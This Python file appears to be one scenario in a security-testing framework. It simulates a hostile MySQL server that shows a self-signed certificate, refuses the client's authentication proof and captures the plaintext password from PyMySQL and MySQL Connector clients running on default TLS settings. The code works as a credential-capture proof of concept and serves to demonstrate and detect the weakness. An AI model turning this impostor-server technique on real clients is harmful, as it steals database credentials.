"""A5: without an authority to verify with, the driver accepts any certificate and sends the password."""

from backwatch.attack.authority import Authority
from backwatch.attack.clients.mysql import DEFAULT_TLS
from backwatch.attack.clients.mysql_connector import MySQLConnector
from backwatch.attack.clients.pymysql import PyMySQL
from backwatch.attack.demo.services.mysql import Packets
from backwatch.attack.protocols.mysql import HonestMySQL
from backwatch.attack.protocols.server import SECRET, HostileServer
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import Lookup

REPORTS = {**DEFAULT_TLS, "database": "reports"}


class Impostor(HonestMySQL):
    """Refuses the proof and asks for the password, within TLS."""

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Take the password, once hostile."""
        if self.hostile:
            wire.send(b"\x01\x04")  # the proof will not do
            self.taken(wire.receive().rstrip(b"\0"))
        else:
            super().log_in(wire, proof)


class Unverified(Lookup):
    """The shop verifies in full; its reports take the defaults."""

    code = "A5"
    attack = "shows a self-signed certificate, and says that it must have the password itself"
    reference = "https://dev.mysql.com/doc/refman/8.4/en/using-encrypted-connections.html"
    rule = "unverified-session"
    server = Impostor
    captures = SECRET.encode()
    runs = (Run(PyMySQL), Run(MySQLConnector, "connector"))

    @classmethod
    def turn(cls, service: HostileServer) -> None:
        """Answer with a self-signed certificate."""
        service.certificate = Authority(service.authority.ca_file.parent / "impostor").issue("impostor")
        service.turn()

    def meet(self) -> object:
        """Make the first report."""
        self.client.close()
        return self.client.execute("SELECT id, customer, total FROM orders ORDER BY id", **REPORTS)
